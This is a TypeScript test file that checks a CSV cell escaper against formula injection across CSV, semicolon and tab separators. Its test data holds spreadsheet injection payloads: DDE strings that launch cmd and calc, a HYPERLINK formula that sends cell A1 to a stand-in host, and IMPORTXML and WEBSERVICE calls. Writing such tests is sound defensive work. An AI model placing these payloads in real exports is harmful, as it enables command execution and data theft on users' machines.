import { parse } from 'csv-parse/sync'
import { expect, it } from 'vitest'
import { csvCell } from './csv-cell.ts'

const BEGINNINGS = ['=', '+', '-', '@', '\t', '\r', '\n', '\0', '＝', '＋', '－', '＠', '=+', '-+', '\t=', '\n@', '@=']
const FORMULAS = [
  ...[
    "cmd|' /C calc'!A0",
    'HYPERLINK("https://elsewhere.example/?"&A1,"Click")',
    'IMPORTXML("https://elsewhere.example","//a")',
  ],
  ...[
    'WEBSERVICE("https://elsewhere.example")',
    'SUM(1,1)*cmd|calc!A0',
    '1+1',
    "2+5+cmd|' /C calc'!A0",
    'DDE("cmd";"/C calc";"x")',
  ],
  ...[
    '"quoted"',
    '"";=1+1',
    ',=1+1',
    '\n=1+1',
    '-',
    '',
    'A1',
    'rundll32|x!_',
    "'=1+1",
    '  =1',
    '10 apples',
    '1e5',
    '1,5',
    '1.5.5',
  ],
  ...['--1', '0x10', '$A$1', '(1)', 'NaN', 'Infinity', '%2B', '🚀'],
]
const LIVE = /^[=+\-@\t\r\n\0＝＋－＠]/

it(`${BEGINNINGS.length * FORMULAS.length} texts that spreadsheets would run begin with an apostrophe, and say the same behind it`, () => {
  const texts = BEGINNINGS.flatMap((beginning) => FORMULAS.map((formula) => beginning + formula))
  const live = texts.filter((text) => {
    const [[cell = '', next = ''] = []]: string[][] = parse(`${csvCell(text)},${csvCell('next')}\r\n`)
    const isNumber = /^-?\d+(\.\d+)?$/.test(text)
    const says = cell.replaceAll("'", '') === text.replaceAll("'", '') && cell.startsWith(isNumber ? text : "'")
    return next !== 'next' || !says || (LIVE.test(cell) && !isNumber)
  })
  expect(texts.length).toBeGreaterThanOrEqual(500)
  expect(live).toEqual([])
})

/** The cells of a line as a spreadsheet reads them whose separator is another one: quotation marks count at the beginning of a cell only. */
const cellsOf = (line: string, separator: string): string[] =>
  line.split(/\r\n|[\r\n]/).flatMap((row) => row.split(separator).map((cell) => cell.replace(/^[\s\0]*(?:"")*"?/, '')))

it.each([';', '\t'])('none runs where %j separates cells either', (separator) => {
  const texts = BEGINNINGS.flatMap((beginning) =>
    FORMULAS.flatMap((formula) =>
      [
        `sold${separator}${beginning}${formula}`,
        `sold${separator} "${beginning}${formula}"`,
        `sold\n${beginning}${formula}`,
      ].concat(`  ${beginning}${formula}`),
    ),
  )
  const live = texts.filter((text) =>
    cellsOf(`7,${csvCell(text)}`, separator).some((cell) => /^[=+\-@＝＋－＠]/.test(cell)),
  )
  expect(texts.length).toBeGreaterThanOrEqual(2_000)
  expect(live).toEqual([])
})

it.each([
  ['-12.5', '-12.5'],
  [12, '12'],
  ['Out at -10%', '"Out at -10%"'],
  [null, ''],
])('%j stays what it is', (value, cell) => {
  expect(csvCell(value)).toBe(cell)
})
